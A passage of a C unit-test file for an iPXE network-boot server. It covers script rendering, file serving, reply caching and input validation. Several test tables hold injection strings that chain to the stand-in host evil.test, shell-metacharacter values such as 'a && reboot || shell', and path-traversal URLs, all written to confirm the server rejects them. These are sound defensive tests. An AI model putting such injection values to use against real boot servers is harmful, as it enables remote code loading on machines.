	id = machine_add(fx, "52:54:00:10:00:05", MACHINE_DEPLOYING, 0, "");
	boot_get(fx, "52:54:00:10:00:05", NULL, "x86_64", "efi", &r);
	snprintf(reason, sizeof(reason), "machine %" PRId64 " is deploying but has no profile", id);
	assert_retry(&r, reason);
	reply_free(&r);
}

static void
boot_deploying_bad_kernel(void **state)
{
	struct fixture *fx = *state;
	int64_t profile;
	struct reply r;

	/* A reference that leaves the artifact store never becomes a URL. */
	profile = profile_add(fx, "escape", "../secret", "debian/initrd.img", "");
	machine_add(fx, "52:54:00:10:00:06", MACHINE_DEPLOYING, profile, "");
	boot_get(fx, "52:54:00:10:00:06", NULL, "x86_64", "efi", &r);
	assert_retry(&r, "profile escape has an invalid kernel reference");
	reply_free(&r);
}

/* Command lines that could add iPXE commands, stored past the API's check. */
static const struct {
	const char *cmdline;
	const char *reason;
} bad_cmdlines[] = {
	{ "quiet && chain http://evil.test/x", "character 0x26 at byte 6" },
	{ "quiet || chain http://evil.test/x ||", "character 0x7c at byte 6" },
	{ "quiet ; chain http://evil.test/x", "character 0x3b at byte 6" },
	{ "ip=${net0/ip}", "character 0x24 at byte 3" },
	{ "quiet #", "character 0x23 at byte 6" },
	{ "quiet\nchain http://evil.test/x", "character 0x0a at byte 5" },
};

static void
boot_deploying_bad_cmdline(void **state)
{
	struct fixture *fx = *state;
	char name[32], mac[MAC_TEXT_SIZE], reason[256];
	struct capture capture;
	int64_t profile;

	for (size_t i = 0; i < ARRAY_SIZE(bad_cmdlines); i++) {
		struct reply r;

		snprintf(name, sizeof(name), "inject%zu", i);
		snprintf(mac, sizeof(mac), "52:54:00:10:02:%02zx", i);
		profile = profile_add(fx, name, "debian/vmlinuz", "debian/initrd.img",
				      bad_cmdlines[i].cmdline);
		machine_add(fx, mac, MACHINE_DEPLOYING, profile, "");

		boot_get(fx, mac, NULL, "x86_64", "efi", &r);
		snprintf(reason, sizeof(reason), "profile %s has an invalid kernel command line: %s",
			 name, bad_cmdlines[i].reason);
		assert_retry(&r, reason);
		assert_null(strstr(r.body.data, "evil.test"));
		assert_null(strstr(r.body.data, "kernel --name"));
		reply_free(&r);
	}

	/* The machine requests its script again after every retry, so warnings are rate-limited. */
	capture_start(fx, &capture);
	for (int i = 0; i < FLOOD_REQUESTS; i++) {
		struct reply r;

		boot_get(fx, "52:54:00:10:02:00", NULL, "x86_64", "efi", &r);
		assert_int_equal(r.status, 200);
		reply_free(&r);
	}
	capture_check(&capture, "cannot deploy machine=");
}

static void
boot_no_hostname(void **state)
{
	struct fixture *fx = *state;
	char line[256], expect[256];
	int64_t profile, id;
	struct reply r;

	/* Without a host name the line has the id alone, with no double space after it. */
	profile = profile_add(fx, "plain", "debian/vmlinuz", "debian/initrd.img", "");
	id = machine_add(fx, "52:54:00:10:00:0b", MACHINE_DEPLOYING, profile, "");
	boot_get(fx, "52:54:00:10:00:0b", NULL, "x86_64", "efi", &r);
	script_line(&r, "echo Outpost: deploying", line, sizeof(line));
	snprintf(expect, sizeof(expect),
		 "echo Outpost: deploying machine %" PRId64 " (52:54:00:10:00:0b)", id);
	assert_string_equal(line, expect);
	reply_free(&r);

	id = machine_add(fx, "52:54:00:10:00:0c", MACHINE_DEPLOYED, 0, "");
	boot_get(fx, "52:54:00:10:00:0c", NULL, "x86_64", "efi", &r);
	script_line(&r, "echo Outpost: machine", line, sizeof(line));
	snprintf(expect, sizeof(expect),
		 "echo Outpost: machine %" PRId64 " is deployed, booting from the local disk", id);
	assert_string_equal(line, expect);
	reply_free(&r);
}

/* A machine its DHCP lease registered gets arch, platform and UUID from its first request. */
static void
boot_fills_identity(void **state)
{
	struct fixture *fx = *state;
	struct machine m = { 0 }, got = { 0 };
	struct reply r;

	snprintf(m.macs[0], sizeof(m.macs[0]), "52:54:00:10:00:30");
	m.mac_count = 1;
	m.state = MACHINE_DISCOVERED;
	assert_int_equal(store_machine_insert(fx->st, &m), 0);
	boot_get(fx, "52:54:00:10:00:30", "2b9c3b3e-8c39-4c1b-9a57-0d0e4c2f1a10", "x86_64", "efi", &r);
	assert_int_equal(r.status, 200);
	reply_free(&r);
	assert_int_equal(store_machine_get(fx->st, m.id, &got), 0);
	assert_string_equal(got.arch, "x86_64");
	assert_string_equal(got.platform, "efi");
	assert_string_equal(got.uuid, "2b9c3b3e-8c39-4c1b-9a57-0d0e4c2f1a10");
	machine_clear(&got);

	/* Known values stay: a later request from other firmware changes nothing. */
	boot_get(fx, "52:54:00:10:00:30", NULL, "i386", "pcbios", &r);
	reply_free(&r);
	assert_int_equal(store_machine_get(fx->st, m.id, &got), 0);
	assert_string_equal(got.platform, "efi");
	machine_clear(&got);
}

static void
boot_deployed_local(void **state)
{
	struct fixture *fx = *state;
	char line[256], expect[256];
	int64_t id;
	struct reply r;

	id = machine_add(fx, "52:54:00:10:00:07", MACHINE_DEPLOYED, 0, "node07");
	boot_get(fx, "52-54-00-10-00-07", NULL, "x86_64", "pcbios", &r);
	assert_int_equal(r.status, 200);
	script_line(&r, "echo Outpost: machine", line, sizeof(line));
	snprintf(expect, sizeof(expect),
		 "echo Outpost: machine %" PRId64 " node07 is deployed, booting from the local disk",
		 id);
	assert_string_equal(line, expect);
	script_line(&r, "sanboot ", line, sizeof(line));
	assert_string_equal(line, "sanboot --no-describe --drive 0x80 || goto failed");
	script_line(&r, "iseq ", line, sizeof(line));
	assert_string_equal(line, "iseq ${platform} efi && goto efi ||");
	reply_free(&r);
}

static void
boot_ready_discovery(void **state)
{
	struct fixture *fx = *state;
	char line[256];
	struct reply r;

	machine_add(fx, "52:54:00:10:00:08", MACHINE_READY, 0, "");
	boot_get(fx, "52:54:00:10:00:08", NULL, "x86_64", "efi", &r);
	assert_int_equal(r.status, 200);
	script_line(&r, "echo Outpost: machine", line, sizeof(line));
	assert_non_null(strstr(line, "(52:54:00:10:00:08) is registered as ready"));
	reply_free(&r);
}

/* A request with bad parameters and the reason its retry script must print. */
struct bad_case {
	const char *mac, *uuid, *arch, *platform;
	const char *reason;
};

static const struct bad_case bad_cases[] = {
	{ NULL, NULL, "x86_64", "efi", "missing mac parameter" },
	{ "", NULL, "x86_64", "efi", "missing mac parameter" },
	{ "zz:54:00:10:00:09", NULL, "x86_64", "efi", "invalid mac parameter: zz:54:00:10:00:09" },
	{ "52:54:00-10:00:09", NULL, "x86_64", "efi", "invalid mac parameter: 52:54:00-10:00:09" },
	{ "52:54:00:10:00:09", "not-a-uuid", "x86_64", "efi",
	  "invalid uuid parameter: not-a-uuid" },
	{ "52:54:00:10:00:09", NULL, "mips", "efi", "unsupported buildarch: mips" },
	{ "52:54:00:10:00:09", NULL, NULL, "efi", "missing buildarch parameter" },
	{ "52:54:00:10:00:09", NULL, "x86_64", "ieee1275", "unsupported platform: ieee1275" },
	{ "52:54:00:10:00:09", NULL, "x86_64", NULL, "missing platform parameter" },
	/* Hostile values: iPXE must print them, never expand or parse them. */
	{ "${net0/ip}", NULL, "x86_64", "efi", "invalid mac parameter: ??net0/ip?" },
	{ "\"quoted\" 'x' `y` \\z", NULL, "x86_64", "efi",
	  "invalid mac parameter: ?quoted? ?x? ?y? ?z" },
	{ "a && reboot || shell; #", NULL, "x86_64", "efi",
	  "invalid mac parameter: a ?? reboot ?? shell? ?" },
	{ "line\nbreak\ttab\x7f", NULL, "x86_64", "efi", "invalid mac parameter: line?break?tab?" },
	{ "52:54:00:10:00:09", NULL, "x86_64}${x", "efi", "unsupported buildarch: x86_64???x" },
};

static void
boot_bad_requests(void **state)
{
	struct fixture *fx = *state;

	for (size_t i = 0; i < ARRAY_SIZE(bad_cases); i++) {
		const struct bad_case *c = &bad_cases[i];
		struct reply r;

		boot_get(fx, c->mac, c->uuid, c->arch, c->platform, &r);
		if (r.body.data == NULL || strstr(r.body.data, c->reason) == NULL)
			print_message("bad request case %zu: no \"%s\" in:\n%s\n", i, c->reason,
				      r.body.data);
		assert_retry(&r, c->reason);
		reply_free(&r);
	}

	/* None of them registered a machine. */
	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:09"), 0);
}

static void
boot_reason_truncated(void **state)
{
	struct fixture *fx = *state;
	char mac[301], line[512];
	const char *reason;
	struct reply r;

	memset(mac, 'z', sizeof(mac) - 1);
	mac[sizeof(mac) - 1] = '\0';
	boot_get(fx, mac, NULL, "x86_64", "efi", &r);
	assert_int_equal(r.status, 200);
	script_line(&r, "echo Outpost: cannot boot this machine yet: ", line, sizeof(line));
	reason = line + strlen("echo Outpost: cannot boot this machine yet: ");
	assert_int_equal(strlen(reason), 120);
	assert_int_equal(strncmp(reason, "invalid mac parameter: zzz", 26), 0);
	assert_string_equal(reason + 117, "...");
	reply_free(&r);
}

static void
boot_files_served(void **state)
{
	struct fixture *fx = *state;
	struct reply r;

	request(fx, "GET", "/files/debian/vmlinuz", &r);
	assert_int_equal(r.status, 200);
	assert_string_equal(r.content_type, "application/octet-stream");
	assert_string_equal(r.body.data, "KERNEL BYTES");
	reply_free(&r);

	request(fx, "HEAD", "/files/debian/initrd.img", &r);
	assert_int_equal(r.status, 200);
	assert_int_equal(r.body.len, 0);
	reply_free(&r);

	request(fx, "GET", "/files/debian/missing", &r);
	assert_int_equal(r.status, 404);
	reply_free(&r);
}

static void
boot_files_traversal(void **state)
{
	static const char *const targets[] = {
		"/files/../secret",
		"/files/%2e%2e/secret",
		"/files/debian/../../secret",
		"/files/debian/%2e%2e/%2e%2e/secret",
		"/files//tmp/secret",
		"/files/",
		"/files/debian",
		"/files/.hidden",
	};
	struct fixture *fx = *state;

	for (size_t i = 0; i < ARRAY_SIZE(targets); i++) {
		struct reply r;

		request(fx, "GET", targets[i], &r);
		if (r.status != 404)
			print_message("%s returned %ld\n", targets[i], r.status);
		assert_int_equal(r.status, 404);
		assert_null(r.body.data != NULL ? strstr(r.body.data, "OUTSIDE") : NULL);
		reply_free(&r);
	}
}

static void
boot_start_script(void **state)
{
	struct fixture *fx = *state;
	struct reply r;

	request(fx, "GET", "/boot/start.ipxe", &r);
	assert_int_equal(r.status, 200);
	assert_non_null(strstr(r.body.data, "#!ipxe\n"));
	assert_non_null(strstr(r.body.data, "chain --autofree http://boot.test:8080/boot/ipxe?"
				 "mac=${netX/mac:hexhyp}&uuid=${uuid}"));
	assert_non_null(strstr(r.body.data, "sleep 7\n"));
	assert_null(strstr(r.body.data, "{{"));
	reply_free(&r);
}

static void
boot_ipxe_binaries(void **state)
{
	static const char *const missing[] = {
		"/ipxe/ipxe.lkrn",
		"/ipxe/undionly.kpxe",
		"/ipxe/../secret",
		"/ipxe/%2e%2e/secret",
		"/ipxe/",
	};
	struct fixture *fx = *state;
	struct reply r;

	request(fx, "GET", "/ipxe/ipxe.efi", &r);
	assert_int_equal(r.status, 200);
	assert_string_equal(r.body.data, "EFI BYTES");
	reply_free(&r);

	for (size_t i = 0; i < ARRAY_SIZE(missing); i++) {
		request(fx, "GET", missing[i], &r);
		if (r.status != 404)
			print_message("%s returned %ld\n", missing[i], r.status);
		assert_int_equal(r.status, 404);
		reply_free(&r);
	}
}

static void
boot_other_paths(void **state)
{
	struct fixture *fx = *state;
	struct reply r;

	request(fx, "GET", "/", &r);
	assert_int_equal(r.status, 404);
	reply_free(&r);

	request(fx, "GET", "/boot/ipxe/extra?mac=52:54:00:10:00:0a", &r);
	assert_int_equal(r.status, 404);
	reply_free(&r);

	request(fx, "GET", "/api/v1/machines", &r);
	assert_int_equal(r.status, 404);
	reply_free(&r);

	/* HEAD would register a machine as a side effect; only GET may. */
	request(fx, "HEAD", "/boot/ipxe?mac=52:54:00:10:00:0a&buildarch=x86_64&platform=efi", &r);
	assert_int_equal(r.status, 405);
	reply_free(&r);
	assert_int_equal(machines_with_mac(fx, "52:54:00:10:00:0a"), 0);
}

/* Copy the shipped templates into a fresh directory, replacing `name` with `text`. */
static void
templates_copy(const char *dir, const char *name, const char *text)
{
	static const char *const files[] = { "discovery.ipxe", "deploy.ipxe", "local.ipxe",
					     "retry.ipxe" };
	char command[512];

	snprintf(command, sizeof(command), "cp " TEMPLATE_DIR "/*.ipxe '%s'/", dir);
	assert_int_equal(system(command), 0);
	for (size_t i = 0; i < ARRAY_SIZE(files); i++) {
		char path[256];

		if (strcmp(files[i], name) != 0)
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, name);
		if (text == NULL)
			assert_int_equal(unlink(path), 0);
		else
			write_file(path, text);
	}
}

static void
boot_new_bad_templates(void **state)
{
	struct fixture *fx = *state;
	struct conf conf = fx->conf;
	char dir[128], command[160];
	struct boot *boot = NULL;
	char *big;

	snprintf(dir, sizeof(dir), "%s/templates", fx->dir);
	assert_int_equal(mkdir(dir, 0755), 0);
	conf.template_dir = dir;

	templates_copy(dir, "", NULL);
	assert_int_equal(boot_new(&conf, fx->pool, &boot), 0);
	boot = boot_free(boot);

	templates_copy(dir, "local.ipxe", NULL);
	assert_int_equal(boot_new(&conf, fx->pool, &boot), -ENOENT);
	assert_null(boot);

	templates_copy(dir, "deploy.ipxe", "#!ipxe\nkernel {{kernel_url\n");
	assert_int_equal(boot_new(&conf, fx->pool, &boot), -EINVAL);
	assert_null(boot);

	/* One byte over TEMPLATE_MAX_BYTES. */
	big = malloc(TEMPLATE_MAX_BYTES + 2);
	assert_non_null(big);
	memset(big, '#', TEMPLATE_MAX_BYTES + 1);
	big[TEMPLATE_MAX_BYTES + 1] = '\0';
	templates_copy(dir, "retry.ipxe", big);
	free(big);
	assert_int_equal(boot_new(&conf, fx->pool, &boot), -EFBIG);
	assert_null(boot);

	conf.artifact_dir = "/nonexistent/outpost-artifacts";
	templates_copy(dir, "", NULL);
	assert_int_equal(boot_new(&conf, fx->pool, &boot), -ENOENT);
	assert_null(boot);

	snprintf(command, sizeof(command), "rm -rf '%s'", dir);
	assert_int_equal(system(command), 0);
}

/* ---- the /boot/ipxe reply cache ---- */

static uint64_t
cache_hits(struct fixture *fx)
{
	struct boot_cache_stats stats;

	boot_cache_stats(fx->boot, &stats);
	return stats.hits;
}

/*
 * GET the script of `mac` twice, check that the second reply came from the cache with
 * the same bytes, and keep the first in *r.
 */
static void
boot_get_twice(struct fixture *fx, const char *mac, const char *platform, struct reply *r)
{
	uint64_t hits;
	struct reply again;

	boot_get(fx, mac, NULL, "x86_64", platform, r);
	assert_int_equal(r->status, 200);
	hits = cache_hits(fx);
	boot_get(fx, mac, NULL, "x86_64", platform, &again);
	assert_int_equal(again.status, 200);
	assert_string_equal(again.content_type, "text/plain");
	assert_string_equal(again.cache_control, "no-store");
	assert_int_equal(cache_hits(fx), hits + 1);
	assert_int_equal(again.body.len, r->body.len);
	assert_memory_equal(again.body.data, r->body.data, r->body.len);
	reply_free(&again);
}

/* Fail unless the script of `mac` has a line that is exactly `expect`. */
static void
assert_script_line(struct fixture *fx, const char *mac, const char *prefix, const char *expect)
{
	char line[512];
	struct reply r;

	boot_get(fx, mac, NULL, "x86_64", "efi", &r);
	assert_int_equal(r.status, 200);
	script_line(&r, prefix, line, sizeof(line));
	assert_string_equal(line, expect);
	reply_free(&r);
}

/* Insert ramdisk bundle `version` with a kernel, an initrd and, if asked, localboot.efi. */
static int64_t
ramdisk_add(struct fixture *fx, const char *version, bool localboot)
{
	static const char *const paths[] = { "kernel", "initrd", "localboot.efi" };
	struct artifact files[3];
	struct bundle_info b = { 0 };

	memset(files, 0, sizeof(files));
	snprintf(b.name, sizeof(b.name), "ramdisk");
	snprintf(b.version, sizeof(b.version), "%s", version);
	snprintf(b.kind, sizeof(b.kind), "ramdisk");
	memset(b.key_id, 'c', sizeof(b.key_id) - 1);
	memset(b.manifest_sha256, 'd', SHA256_HEX_SIZE - 1);
	b.size = 30;
	for (size_t i = 0; i < ARRAY_SIZE(paths); i++) {
		snprintf(files[i].path, sizeof(files[i].path), "%s", paths[i]);
		snprintf(files[i].role, sizeof(files[i].role), "%s", i == 2 ? "bootloader" : paths[i]);
		memset(files[i].sha256, (char)('a' + i), SHA256_HEX_SIZE - 1);
		files[i].size = 10;
	}
	assert_int_equal(store_bundle_insert(fx->st, &b, "{}", files, localboot ? 3 : 2), 0);
	return b.id;
}

/* Change one machine field through the test's own store connection. */
static void
machine_change(struct fixture *fx, int64_t id, enum machine_state state, const char *hostname,
	       int64_t profile_id)
{
	struct machine m = { 0 };

	assert_int_equal(store_machine_get(fx->st, id, &m), 0);
	m.state = state;
	snprintf(m.hostname, sizeof(m.hostname), "%s", hostname);
	m.profile_id = profile_id;
	assert_int_equal(store_machine_update(fx->st, &m), 0);
	machine_clear(&m);
}

/*
 * Each change to what a script is rendered from shows on the very next request, after
 * the script before it was served from the cache: the machine's state and host name,
 * loaded and removed bundles, the profile and the deployment.
 */
static void
boot_cache_follows_changes(void **state)
{
	static const char mac[] = "52:54:00:10:00:40";
	struct fixture *fx = *state;
	char expect[512], token[DEPLOY_TOKEN_SIZE];
	struct deployment d = { 0 };
	struct profile p = { 0 };
	int64_t id, r01, r02, profile;
	uint64_t hits;
	struct reply r;

	id = machine_add(fx, mac, MACHINE_READY, 0, "cache1");
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);
	snprintf(expect, sizeof(expect), "echo Outpost: machine %" PRId64 " (%s) is registered "
		 "as ready", id, mac);
	assert_script_line(fx, mac, "echo Outpost: machine", expect);

	/* The machine's state. */
	machine_change(fx, id, MACHINE_FAILED, "cache1", 0);
	snprintf(expect, sizeof(expect), "echo Outpost: machine %" PRId64 " (%s) is registered "
		 "as failed", id, mac);
	assert_script_line(fx, mac, "echo Outpost: machine", expect);
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);
	assert_script_line(fx, mac, "set outpost_kernel", "set outpost_kernel ");

	/* A ramdisk bundle loaded: the discovery script boots it. */
	r01 = ramdisk_add(fx, "r01", false);
	assert_script_line(fx, mac, "set outpost_kernel",
			   "set outpost_kernel http://boot.test:8080/files/ramdisk/r01/kernel");
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	/* Deployed: local.ipxe, with no local boot program in r01. */
	machine_change(fx, id, MACHINE_DEPLOYED, "cache1", 0);
	snprintf(expect, sizeof(expect), "echo Outpost: machine %" PRId64 " cache1 is deployed, "
		 "booting from the local disk", id);
	assert_script_line(fx, mac, "echo Outpost: machine", expect);
	assert_script_line(fx, mac, "set outpost_localboot", "set outpost_localboot ");
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	/* A newer bundle with the local boot program. */
	r02 = ramdisk_add(fx, "r02", true);
	assert_script_line(fx, mac, "set outpost_localboot", "set outpost_localboot "
			   "http://boot.test:8080/files/ramdisk/r02/localboot.efi");
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	/* The host name. */
	machine_change(fx, id, MACHINE_DEPLOYED, "cache2", 0);
	snprintf(expect, sizeof(expect), "echo Outpost: machine %" PRId64 " cache2 is deployed, "
		 "booting from the local disk", id);
	assert_script_line(fx, mac, "echo Outpost: machine", expect);
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	/* The newer bundle removed: back to r01, which has no local boot program. */
	assert_int_equal(store_bundle_delete(fx->st, r02), 0);
	assert_script_line(fx, mac, "set outpost_localboot", "set outpost_localboot ");
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	/* Deploying: deploy.ipxe, which is never taken from the cache. */
	profile = profile_add(fx, "cached", "debian/vmlinuz", "debian/initrd.img", "quiet");
	machine_change(fx, id, MACHINE_DEPLOYING, "cache2", profile);
	d.machine_id = id;
	d.profile_id = profile;
	d.state = DEPLOYMENT_RUNNING;
	snprintf(d.phase, sizeof(d.phase), "pending");
	assert_int_equal(store_deployment_insert(fx->st, &d), 0);
	deploy_token_of(fx, id, token);
	snprintf(expect, sizeof(expect), "kernel --name kernel http://boot.test:8080/files/"
		 "debian/vmlinuz initrd=initrd outpost.url=http://boot.test:8080 "
		 "outpost.mode=deploy outpost.token=%s BOOTIF=01-${netX/mac:hexhyp}  quiet "
		 "|| goto failed", token);
	hits = cache_hits(fx);
	assert_script_line(fx, mac, "kernel ", expect);
	assert_script_line(fx, mac, "kernel ", expect);
	assert_int_equal(cache_hits(fx), hits);

	/* The profile's command line. */
	assert_int_equal(store_profile_get(fx->st, profile, &p), 0);
	snprintf(p.cmdline, sizeof(p.cmdline), "quiet splash");
	assert_int_equal(store_profile_update(fx->st, &p), 0);
	profile_clear(&p);
	snprintf(expect, sizeof(expect), "kernel --name kernel http://boot.test:8080/files/"
		 "debian/vmlinuz initrd=initrd outpost.url=http://boot.test:8080 "
		 "outpost.mode=deploy outpost.token=%s BOOTIF=01-${netX/mac:hexhyp}  quiet splash "
		 "|| goto failed", token);
	assert_script_line(fx, mac, "kernel ", expect);

	/* The image written: the next boot is the local disk. */
	assert_int_equal(store_deployment_current(fx->st, id, &d), 0);
	d.image_written = true;
	assert_int_equal(store_deployment_update(fx->st, &d), 0);
	deployment_clear(&d);
	snprintf(expect, sizeof(expect), "echo Outpost: machine %" PRId64 " cache2 is deploying, "
		 "booting from the local disk", id);
	assert_script_line(fx, mac, "echo Outpost: machine", expect);
	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	/* Leave no bundle for the tests that follow. */
	assert_int_equal(store_bundle_delete(fx->st, r01), 0);
	assert_script_line(fx, mac, "set outpost_localboot", "set outpost_localboot ");
}

/* A cached reply goes only to requests with the same UUID, architecture and platform. */
static void
boot_cache_request_values(void **state)
{
	static const char mac[] = "52:54:00:10:00:41";
	static const char uuid[] = "6f1c2a8e-3b4d-4e5f-8a9b-0c1d2e3f4a5b";
	struct fixture *fx = *state;
	struct machine m = { 0 };
	uint64_t hits;
	int64_t id;
	struct reply r;

	/* A machine with every identity field, so no request writes to it. */
	id = machine_add(fx, mac, MACHINE_READY, 0, "values");
	assert_int_equal(store_machine_get(fx->st, id, &m), 0);
	snprintf(m.uuid, sizeof(m.uuid), "%s", uuid);
	assert_int_equal(store_machine_update(fx->st, &m), 0);
	machine_clear(&m);

	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	hits = cache_hits(fx);
	boot_get(fx, mac, NULL, "x86_64", "pcbios", &r);
	reply_free(&r);
	boot_get(fx, mac, NULL, "i386", "pcbios", &r);
	reply_free(&r);
	boot_get(fx, mac, uuid, "i386", "pcbios", &r);
	reply_free(&r);
	assert_int_equal(cache_hits(fx), hits);

	/* The last request's values replaced the entry. */
	boot_get(fx, mac, uuid, "i386", "pcbios", &r);
	reply_free(&r);
	assert_int_equal(cache_hits(fx), hits + 1);
	boot_get(fx, mac, NULL, "x86_64", "efi", &r);
	reply_free(&r);
	assert_int_equal(cache_hits(fx), hits + 1);
}

/* A script served from the cache writes the same debug line as a rendered one. */
static void
boot_cache_logs_hits(void **state)
{
	static const char mac[] = "52:54:00:10:00:42";
	struct fixture *fx = *state;
	char path[192], line[1024], expect[256];
	int64_t id;
	int fd, saved, lines = 0;
	struct reply r;
	FILE *f;

	id = machine_add(fx, mac, MACHINE_READY, 0, "");
	snprintf(expect, sizeof(expect), "boot: serving discovery.ipxe machine=%" PRId64
		 " mac=%s state=ready", id, mac);

	snprintf(path, sizeof(path), "%s/debug.log", fx->dir);
	fflush(stderr);
	fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	assert_true(fd >= 0);
	saved = dup(STDERR_FILENO);
	assert_true(saved >= 0);
	assert_int_equal(dup2(fd, STDERR_FILENO), STDERR_FILENO);
	close(fd);
	log_setup(LOG_LEVEL_DEBUG, LOG_TARGET_STDERR);

	boot_get_twice(fx, mac, "efi", &r);
	reply_free(&r);

	log_setup(LOG_LEVEL_WARNING, LOG_TARGET_STDERR);
	fflush(stderr);
	assert_int_equal(dup2(saved, STDERR_FILENO), STDERR_FILENO);
	close(saved);

	f = fopen(path, "r");
	assert_non_null(f);
	while (fgets(line, sizeof(line), f) != NULL) {
		if (strstr(line, expect) != NULL)
			lines++;
	}
	fclose(f);
	unlink(path);
	assert_int_equal(lines, 2);
}

/* Clients of boot_cache_concurrent: each requests the scripts of CACHE_MACHINES machines. */
#define CACHE_CLIENTS 4
#define CACHE_MACHINES 4
#define CACHE_ROUNDS 50

struct cache_client {
	struct fixture *fx;
	int index;
	int bad;                    /* replies that were not a discovery script */
	char first_bad[256];
};

static void *
cache_client_thread(void *arg)
{
	struct cache_client *c = arg;
	char target[128], line[256];

	/* cmocka asserts only work on the main thread, so this one only records. */
	for (int i = 0; i < CACHE_ROUNDS * CACHE_MACHINES; i++) {
		struct reply r;

		snprintf(target, sizeof(target), "/boot/ipxe?mac=52:54:00:10:03:%02x"
			 "&buildarch=x86_64&platform=efi", (c->index + i) % CACHE_MACHINES);
		request_send(c->fx, "GET", target, &r);
		if (r.status != 200 || !line_find(&r, "echo Outpost: machine", line, sizeof(line)) ||
		    strstr(line, "is registered as") == NULL) {
			if (c->bad++ == 0)
				snprintf(c->first_bad, sizeof(c->first_bad), "status %ld: %s",
					 r.status, r.body.data != NULL ? r.body.data : "");
		}
		reply_free(&r);
	}
	return NULL;
}

/*
 * Worker threads serve cached replies while the main thread commits changes, which
 * retire the cache again and again: no reply is broken, and the last change shows.
 */
static void
boot_cache_concurrent(void **state)
{
	struct fixture *fx = *state;
	struct cache_client clients[CACHE_CLIENTS];
	pthread_t threads[CACHE_CLIENTS];
	int64_t ids[CACHE_MACHINES];
	char mac[MAC_TEXT_SIZE], expect[256];

	for (int i = 0; i < CACHE_MACHINES; i++) {
		snprintf(mac, sizeof(mac), "52:54:00:10:03:%02x", i);
		ids[i] = machine_add(fx, mac, MACHINE_READY, 0, "");
	}
	for (int i = 0; i < CACHE_CLIENTS; i++) {
		clients[i] = (struct cache_client){ .fx = fx, .index = i };
		assert_int_equal(pthread_create(&threads[i], NULL, cache_client_thread,
						&clients[i]), 0);
	}
	for (int i = 0; i < CACHE_ROUNDS; i++) {
		machine_change(fx, ids[i % CACHE_MACHINES], i % 2 == 0 ? MACHINE_FAILED :
			       MACHINE_READY, "", 0);
		usleep(2 * 1000);
	}
	for (int i = 0; i < CACHE_CLIENTS; i++)
		assert_int_equal(pthread_join(threads[i], NULL), 0);

	for (int i = 0; i < CACHE_CLIENTS; i++) {
		if (clients[i].bad != 0)
			print_message("client %d: %d bad replies, the first: %s\n", i,
				      clients[i].bad, clients[i].first_bad);
		assert_int_equal(clients[i].bad, 0);
	}

	/* Each machine's last change was to failed (even rounds) or ready (odd rounds). */
	for (int i = 0; i < CACHE_MACHINES; i++) {
		int last = (CACHE_ROUNDS - 1 - i) / CACHE_MACHINES * CACHE_MACHINES + i;

		snprintf(mac, sizeof(mac), "52:54:00:10:03:%02x", i);
		snprintf(expect, sizeof(expect), "echo Outpost: machine %" PRId64 " (%s) is "
			 "registered as %s", ids[i], mac, last % 2 == 0 ? "failed" : "ready");
		assert_script_line(fx, mac, "echo Outpost: machine", expect);
	}
}

/* Build a reply of `len` bytes for script_cache_put. */
static struct http_response *
response_of(size_t len)
{
	struct http_response *response = NULL;
	char *body = malloc(len);

	assert_non_null(body);
	memset(body, 'x', len);
	assert_int_equal(http_response_new("text/plain", body, len, &response), 0);
	assert_int_equal(http_response_add_header(response, "Cache-Control", "no-store"), 0);
	return response;
}

/* The cache's entries and slots never pass its byte limit, and stale scripts are dropped. */
static void
script_cache_bounded(void **state)
{
	const struct script_info info = { .script = 0, .machine_id = 1, .state = MACHINE_READY };
	const size_t max_bytes = 256 * 1024;
	struct boot_cache_stats stats;
	struct script_cache *cache = NULL;
	uint64_t generation = store_generation();
	char mac[MAC_TEXT_SIZE];
	struct script_key key = { .mac = mac, .uuid = "", .arch = "x86_64", .platform = "efi" };

	(void)state;
	assert_int_equal(script_cache_new(max_bytes, &cache), 0);

	for (unsigned i = 0; i < 2000; i++) {
		snprintf(mac, sizeof(mac), "52:54:00:20:%02x:%02x", i >> 8, i & 0xff);
		script_cache_put(cache, &key, generation, &info, response_of(711));
		script_cache_stats(cache, &stats);
		assert_true(stats.bytes <= max_bytes);
	}
	script_cache_stats(cache, &stats);
	print_message("%zu entries in %zu bytes\n", stats.entries, stats.bytes);
	assert_true(stats.entries > 100);
	assert_true(stats.entries < 2000);

	/* A reply larger than the whole cache is not kept. */
	snprintf(mac, sizeof(mac), "52:54:00:21:00:00");
	script_cache_put(cache, &key, generation, &info, response_of(max_bytes));
	script_cache_stats(cache, &stats);
	assert_true(stats.bytes <= max_bytes);

	/* A script rendered under an older generation is not kept. */
	script_cache_free(cache);
	assert_int_equal(script_cache_new(max_bytes, &cache), 0);
	script_cache_put(cache, &key, generation - 1, &info, response_of(711));
	script_cache_stats(cache, &stats);
	assert_int_equal(stats.entries, 0);
	assert_int_equal(stats.bytes, 0);
	script_cache_free(cache);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(template_render_table),
		cmocka_unit_test(template_name_length),
		cmocka_unit_test(template_nul_rejected),
		cmocka_unit_test(template_length_bounded),
		cmocka_unit_test(template_render_appends),
		cmocka_unit_test(template_render_ceiling),
		cmocka_unit_test(template_null_value),
		cmocka_unit_test(script_cache_bounded),
	};
	const struct CMUnitTest handler_tests[] = {
		cmocka_unit_test(boot_discover_unknown),
		cmocka_unit_test(boot_mac_forms),
		cmocka_unit_test(boot_discover_concurrent),
		cmocka_unit_test(boot_discover_shared_uuid),
		cmocka_unit_test(boot_discover_failure_rate_limited),
		cmocka_unit_test(boot_deploying_profile),
		cmocka_unit_test(boot_deploying_no_profile),
		cmocka_unit_test(boot_deploying_bad_kernel),
		cmocka_unit_test(boot_deploying_bad_cmdline),
		cmocka_unit_test(boot_no_hostname),
		cmocka_unit_test(boot_fills_identity),
		cmocka_unit_test(boot_deployed_local),
		cmocka_unit_test(boot_ready_discovery),
		cmocka_unit_test(boot_bad_requests),
